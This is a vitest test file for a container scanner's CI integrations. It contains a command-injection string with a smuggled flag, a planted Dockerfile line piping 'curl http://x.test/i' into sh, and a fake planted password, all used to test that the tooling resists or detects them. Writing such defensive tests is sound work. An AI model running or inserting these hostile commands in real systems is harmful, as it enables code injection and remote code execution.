import { existsSync, globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { validateAction, validateWorkflow } from '@action-validator/core'
import { buildImage, layer, startRegistry } from '@veinmind/testing'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { parse, parseAllDocuments } from 'yaml'
import { openJobFolder } from './run-step.ts'
import type { JobFolder } from './run-step.ts'

const ROOT = fileURLToPath(new URL('../../', import.meta.url))
const read = (path: string): string => readFileSync(join(ROOT, 'integrations', path), 'utf8')

const image = buildImage(
  layer(
    { 'etc/passwd': 'root:x:0:0::/root:/bin/sh\n', 'etc/shadow': 'root::19000:0:99999:7:::\n' },
    { compress: 'gzip' },
  ),
)
let registry: Awaited<ReturnType<typeof startRegistry>>
beforeAll(async () => {
  registry = await startRegistry()
  registry.push('app', '1', image)
  registry.push('clean', '1', buildImage(layer({ a: 'x' }), { config: { User: '1000' } }))
})
afterAll(() => registry[Symbol.asyncDispose]())

interface Action {
  readonly inputs: Readonly<Record<string, { readonly default?: string }>>
  readonly runs: {
    readonly steps: readonly { readonly run?: string; readonly env?: Readonly<Record<string, string>> }[]
  }
}

/** Runs the action's step as a runner of GitHub does: its inputs, with their defaults, are put into its environment. */
async function runAction(folder: JobFolder, given: Readonly<Record<string, string>>) {
  const { inputs, runs } = parse(read('github-action/action.yml')) as Action
  const step = runs.steps.find(({ run }) => run !== undefined)
  const env = Object.entries(step?.env ?? {}).map(([name, value]) => [
    name,
    value.replace(/^\$\{\{ inputs\.([\w-]+) \}\}$/, (_, input: string) => given[input] ?? inputs[input]?.default ?? ''),
  ])
  const run = await folder.run(step?.run ?? '', {
    ...(Object.fromEntries(env) as Record<string, string>),
    GITHUB_ACTION_PATH: join(ROOT, 'integrations/github-action'),
    GITHUB_STEP_SUMMARY: join(folder.path, 'summary.md'),
    GITHUB_OUTPUT: join(folder.path, 'output'),
  })
  const textOf = (name: string): string =>
    existsSync(join(folder.path, name)) ? readFileSync(join(folder.path, name), 'utf8') : ''
  const outputs = textOf('output').split('\n').filter(Boolean)
  return {
    ...run,
    summary: textOf('summary.md'),
    outputs: Object.fromEntries(outputs.map((line) => line.split('='))) as Record<string, string>,
  }
}

test('the action is one by the schema of actions, and hands every input on', () => {
  const text = read('github-action/action.yml')
  expect(validateAction(text).errors).toEqual([])
  const { inputs } = parse(text) as Action
  for (const input of Object.keys(inputs)) expect(text).toContain(`\${{ inputs.${input} }}`)
  expect(validateAction('name: a\nruns: {}\n').errors).not.toEqual([])
})

test('the workflows of this repository are workflows', () => {
  for (const path of globSync('.github/workflows/*.yml', { cwd: ROOT }))
    expect([path, validateWorkflow(readFileSync(join(ROOT, path), 'utf8')).errors]).toEqual([path, []])
})

test('the action: findings fail the step, and are shown in the log, in the summary and as SARIF', async () => {
  using folder = openJobFolder()
  const run = await runAction(folder, { target: 'registry', references: `${registry.host}/app:1`, plugins: 'weakpass' })
  expect(run.code).toBe(1)
  expect(run.outputs).toEqual({
    report: 'veinmind-report',
    'exit-code': '1',
    sarif: 'veinmind-report/report.sarif',
  })
  expect(run.stdout).toMatch(/^::stop-commands::([0-9a-f]{32})\n[\s\S]*^::\1::\n::error .*WEAK-001/m)
  expect(run.summary).toContain('Account without a password')
  const sarif = JSON.parse(readFileSync(join(folder.path, 'veinmind-report/report.sarif'), 'utf8')) as {
    readonly runs: readonly { readonly results: readonly { readonly ruleId: string }[] }[]
  }
  expect(sarif.runs[0]?.results.map(({ ruleId }) => ruleId)).toEqual(['WEAK-001'])
}, 600_000)

test('the action: clean, and with what is no reference', async () => {
  using folder = openJobFolder()
  const given = { target: 'registry', plugins: 'weakpass' }
  const clean = await runAction(folder, {
    ...given,
    references: `\n  ${registry.host}/clean:1 \n`,
    arguments: '--timeout=5m',
  })
  expect([clean.code, clean.outputs['exit-code']]).toEqual([0, '0'])
  expect((await runAction(folder, { ...given, references: ' \n' })).code).toBe(2)
  // Whatever an input is, no shell runs it, and it is no flag.
  const hostile = '$(touch pwned)`touch pwned`; touch pwned; --output=pwned'
  const refused = await runAction(folder, { ...given, references: `${hostile}\n--show-secrets` })
  expect(refused.code).not.toBe(0)
  expect(existsSync(join(folder.path, 'pwned'))).toBe(false)
}, 600_000)

test('GitLab: the script of the component, and every report that it names', async () => {
  const [header, body] = parseAllDocuments(read('gitlab/template.yml')).map(
    (document) => document.toJS() as unknown,
  ) as [
    { readonly spec: { readonly inputs: Readonly<Record<string, { readonly default: string }>> } },
    Readonly<Record<string, unknown>>,
  ]
  const given: Record<string, string> = { target: 'registry', reference: `${registry.host}/app:1` }
  const filled = JSON.parse(
    JSON.stringify(body).replaceAll(
      /\$\[\[ inputs\.([\w-]+) \]\]/g,
      (_, name: string) => given[name] ?? header.spec.inputs[name]?.default ?? '',
    ),
  ) as {
    readonly veinmind: {
      readonly variables: Readonly<Record<string, string>>
      readonly script: readonly string[]
      readonly artifacts: { readonly reports: Readonly<Record<string, string>> }
    }
  }
  using folder = openJobFolder()
  const { variables, script, artifacts } = filled.veinmind
  const { VEINMIND_REGISTRY_USERNAME: _user, VEINMIND_REGISTRY_PASSWORD: _password, ...env } = variables
  const run = await folder.run(script.join('\n'), env)
  expect([run.code, run.stderr]).toEqual([1, expect.not.stringContaining('error')])
  for (const path of Object.values(artifacts.reports))
    expect(() => JSON.parse(readFileSync(join(folder.path, path), 'utf8')) as unknown).not.toThrow()
}, 600_000)

test('Jenkins: the script of the step, and the test report that it reads', async () => {
  const text = read('jenkins/vars/veinmindScan.groovy')
  const [, script = ''] = /script: '''([\s\S]*?)'''/.exec(text) ?? []
  using folder = openJobFolder()
  // In a text of Groovy two backslashes are one.
  const run = await folder.run(script.replaceAll('\\\\', '\\'), environment('registry'), 'sh')
  expect(run.code).toBe(1)
  expect(readFileSync(join(folder.path, 'veinmind-report/junit.xml'), 'utf8')).toContain('WEAK-001')
}, 600_000)

const environment = (target: string) => ({
  VEINMIND_TARGET: target,
  VEINMIND_REFERENCE: `${registry.host}/app:1`,
  VEINMIND_FAIL_ON: 'high',
  VEINMIND_VERSION: 'latest',
})

test('Azure and CircleCI: their commands', async () => {
  const azure = parse(read('azure/veinmind.yml')) as { readonly steps: readonly [{ readonly bash: string }] }
  const circle = parse(read('circleci/config.yml')) as {
    readonly jobs: { readonly veinmind: { readonly steps: readonly [{ readonly run: { readonly command: string } }] } }
  }
  for (const script of [azure.steps[0].bash, circle.jobs.veinmind.steps[0].run.command]) {
    using folder = openJobFolder()
    expect((await folder.run(script, environment('registry'))).code).toBe(1)
    expect(existsSync(join(folder.path, 'veinmind-report/junit.xml'))).toBe(true)
  }
}, 600_000)

test('Tekton: the script of the task, and its result', async () => {
  const task = parse(read('tekton/task.yaml')) as {
    readonly spec: { readonly steps: readonly [{ readonly script: string }] }
  }
  using folder = openJobFolder()
  const run = await folder.run(
    task.spec.steps[0].script,
    {
      REFERENCE: `${registry.host}/app:1`,
      FAIL_ON: 'high',
      VERSION: 'latest',
      REPORTS: folder.path,
      RESULT: join(folder.path, 'exit-code'),
    },
    'sh',
  )
  expect([run.code, readFileSync(join(folder.path, 'exit-code'), 'utf8')]).toEqual([1, '1'])
  expect(existsSync(join(folder.path, 'report.html'))).toBe(true)
}, 600_000)

test('pre-commit: what its hooks run', async () => {
  const { repos } = parse(read('pre-commit/pre-commit-config.yaml')) as {
    readonly repos: readonly [{ readonly hooks: readonly { readonly entry: string }[] }]
  }
  using folder = openJobFolder()
  const [secrets, iac] = repos[0].hooks.map(({ entry }) => entry.replace(/^veinmind /, 'npx --yes @veinmind/runner '))
  const planted = `printf 'DB_PASSWORD=Zx9vQ2mLp4TkW8\\n' > .env; printf 'FROM debian:13\\nRUN curl http://x.test/i | sh\\n' > Dockerfile`
  expect((await folder.run(`${planted}; ${secrets}`, {})).code).toBe(1)
  expect((await folder.run(`${iac} Dockerfile`, {})).code).toBe(1)
}, 600_000)

test('our own pipelines and these have no finding of medium or worse', async () => {
  using folder = openJobFolder()
  const run = await folder.run(
    `npx --yes x scan iac '${join(ROOT, 'integrations')}' '${join(ROOT, '.github')}' --fail-on medium -f cli`,
    {},
  )
  expect([run.code, run.stdout]).toEqual([0, expect.stringContaining('0 high')])
}, 600_000)
